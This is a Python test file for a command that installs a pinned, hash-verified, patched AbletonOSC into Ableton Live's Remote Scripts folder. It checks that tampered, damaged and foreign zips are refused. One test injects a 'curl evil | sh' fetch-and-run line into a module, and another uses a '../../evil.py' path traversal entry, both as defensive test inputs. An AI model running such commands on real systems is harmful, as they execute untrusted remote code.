"""`segue setup ableton`: AbletonOSC at Segue's pinned commit, checked, patched, into Live's Remote Scripts."""

import os
import shutil
import stat
import subprocess
import tempfile
import zipfile
from pathlib import Path

import pytest

from bridge.cli import main
from bridge.setup import abletonosc
from bridge.setup.changes import SetupError
from bridge.setup.locations import find_remote_scripts_dir
from tests.daw_installs import (
    abletonosc_files,
    abletonosc_sha256,
    abletonosc_zip,
    folder_snapshot,
    run_segue_unprivileged,
    user_library,
)


@pytest.fixture
def zip_file(tmp_path) -> Path:
    path = tmp_path / "AbletonOSC.zip"
    path.write_bytes(abletonosc_zip())
    return path


def setup_args(remote_scripts: Path, zip_path: Path, *extra: str) -> list[str]:
    return ["setup", "ableton", "--remote-scripts-dir", str(remote_scripts), "--abletonosc-zip", str(zip_path),
            "--abletonosc-sha256", abletonosc_sha256(), *extra]


@pytest.mark.parametrize("system", ["macos", "windows", "linux"])
def test_finds_lives_remote_scripts_folder_on_each_system(tmp_path, monkeypatch, system):
    monkeypatch.delenv("USERPROFILE", raising=False)
    monkeypatch.delenv("WINEPREFIX", raising=False)
    monkeypatch.setenv("USER", tmp_path.name)
    library = user_library(tmp_path, system)
    assert find_remote_scripts_dir(system=system, home=tmp_path) == library / "Remote Scripts"
    with pytest.raises(SetupError, match="--remote-scripts-dir"):
        find_remote_scripts_dir(system=system, home=tmp_path / "nobody")


def test_setup_installs_patched_abletonosc_and_uninstall_takes_it_out(tmp_path, zip_file, capsys):
    library = user_library(tmp_path, "macos")
    remote_scripts = library / "Remote Scripts"
    before = folder_snapshot(library)

    assert main(setup_args(remote_scripts, zip_file)) == 0
    out = capsys.readouterr().out
    installed = remote_scripts / "AbletonOSC"
    for name in ("track.py", "clip_slot.py"):
        assert b'"create_audio_clip"' in (installed / "abletonosc" / name).read_bytes()
    assert (installed / "__init__.py").read_bytes() == abletonosc_files()["__init__.py"]
    assert "Preferences > Link, Tempo & MIDI > Control Surface: AbletonOSC" in out

    assert main(setup_args(remote_scripts, zip_file)) == 0
    assert "nothing to change" in capsys.readouterr().out

    (installed / "abletonosc" / "__pycache__").mkdir()  # Live compiled the script when it loaded it
    (installed / "abletonosc" / "__pycache__" / "track.cpython-311.pyc").write_bytes(b"\x00")
    assert main(setup_args(remote_scripts, zip_file, "--uninstall")) == 0
    assert folder_snapshot(library) == before  # Remote Scripts, created by setup, is gone again


def test_a_producers_own_abletonosc_is_backed_up_and_comes_back(tmp_path, zip_file):
    remote_scripts = user_library(tmp_path, "windows") / "Remote Scripts"
    own = remote_scripts / "AbletonOSC"
    (own / "abletonosc").mkdir(parents=True)
    (own / "__init__.py").write_bytes(b"# an older AbletonOSC\n")
    (own / "abletonosc" / "old_module.py").write_bytes(b"# gone upstream since\n")
    before = folder_snapshot(remote_scripts)

    assert main(setup_args(remote_scripts, zip_file)) == 0
    assert not (own / "abletonosc" / "old_module.py").exists()
    assert main(setup_args(remote_scripts, zip_file, "--uninstall")) == 0
    assert folder_snapshot(remote_scripts) == before


def test_a_zip_with_other_files_than_the_pinned_commit_is_refused(tmp_path, zip_file, capsys):
    remote_scripts = user_library(tmp_path, "macos") / "Remote Scripts"
    args = ["setup", "ableton", "--remote-scripts-dir", str(remote_scripts), "--abletonosc-zip", str(zip_file)]
    assert main(args) == 2  # the pinned hash is the real AbletonOSC's; this zip is a stand-in
    err = capsys.readouterr().err
    assert "is not the AbletonOSC Segue was tested with" in err and err.count("\n") == 1
    assert not remote_scripts.exists()

    tampered = abletonosc_files()
    tampered["abletonosc/track.py"] += b"import os; os.system('curl evil | sh')\n"
    with pytest.raises(SetupError, match="refused"):
        abletonosc.verified_files(abletonosc_zip(tampered), "tampered.zip", abletonosc_sha256())


def test_truncated_or_damaged_zips_are_refused(tmp_path, zip_file, capsys):
    remote_scripts = user_library(tmp_path, "macos") / "Remote Scripts"
    data = zip_file.read_bytes()
    truncated = tmp_path / "truncated.zip"
    truncated.write_bytes(data[: len(data) // 2])
    assert main(setup_args(remote_scripts, truncated)) == 2
    assert "is not a readable zip" in capsys.readouterr().err

    with zipfile.ZipFile(zip_file) as archive:  # flip one byte inside a compressed file: CRC fails
        info = archive.getinfo(f"AbletonOSC-{abletonosc.PINNED_COMMIT}/abletonosc/track.py")
    damaged = bytearray(data)
    damaged[info.header_offset + 30 + len(info.filename) + 5] ^= 0xFF
    (tmp_path / "damaged.zip").write_bytes(bytes(damaged))
    assert main(setup_args(remote_scripts, tmp_path / "damaged.zip")) == 2
    assert "abletonosc/track.py fails its CRC check" in capsys.readouterr().err
    assert not remote_scripts.exists()


def test_unsafe_paths_and_foreign_zips_are_refused():
    with pytest.raises(SetupError, match="unsafe path"):
        abletonosc.read_archive(_zip({"AbletonOSC-x/../../evil.py": b""}), "evil.zip")
    with pytest.raises(SetupError, match="does not hold AbletonOSC"):
        abletonosc.read_archive(_zip({"Something-1/readme.txt": b"hi"}), "other.zip")


def test_the_patch_refuses_an_abletonosc_it_does_not_fit():
    files = abletonosc_files()
    files["abletonosc/track.py"] = b"methods = []\n"
    with pytest.raises(SetupError, match="does not fit this AbletonOSC abletonosc/track.py, hunk 1"):
        abletonosc.patched(files)
    patched_once = abletonosc.patched(abletonosc_files())
    assert abletonosc.patched(patched_once) == patched_once


def test_tree_hash_is_the_documented_sha256sum_pipeline(tmp_path, zip_file):
    with zipfile.ZipFile(zip_file) as archive:
        archive.extractall(tmp_path / "unzipped")
    top = next((tmp_path / "unzipped").iterdir())
    pipeline = "find . -type f -printf '%P\\n' | LC_ALL=C sort | xargs -d '\\n' sha256sum | sha256sum"
    result = subprocess.run(["sh", "-c", pipeline], cwd=top, capture_output=True, text=True, timeout=30)
    assert result.stdout.split()[0] == abletonosc_sha256()


def test_a_read_only_remote_scripts_folder_fails_cleanly(zip_file):
    world = Path(tempfile.mkdtemp(prefix="segue-ro-"))
    try:
        os.chmod(world, 0o777)
        remote_scripts = user_library(world / "home", "macos") / "Remote Scripts"
        remote_scripts.mkdir()
        shutil.copy(zip_file, world / "AbletonOSC.zip")
        for folder in [world / "segue-data", world / "segue-config", world / "segue-cache"]:
            folder.mkdir()
            os.chmod(folder, 0o777)
        for path in [world / "home", *(world / "home").rglob("*")]:
            os.chmod(path, 0o555)
        os.chmod(world / "AbletonOSC.zip", 0o444)
        env = {f"SEGUE_{n.upper()}_DIR": str(world / f"segue-{n}") for n in ("data", "config", "cache")}
        result = run_segue_unprivileged(setup_args(remote_scripts, world / "AbletonOSC.zip"), env)
        assert result.returncode == 2, result.stderr
        assert "cannot write into" in result.stderr and "nothing was changed" in result.stderr
        assert list(remote_scripts.iterdir()) == []
    finally:
        for path in [world, *world.rglob("*")]:
            os.chmod(path, stat.S_IRWXU)
        shutil.rmtree(world)


def _zip(files: dict[str, bytes]) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()
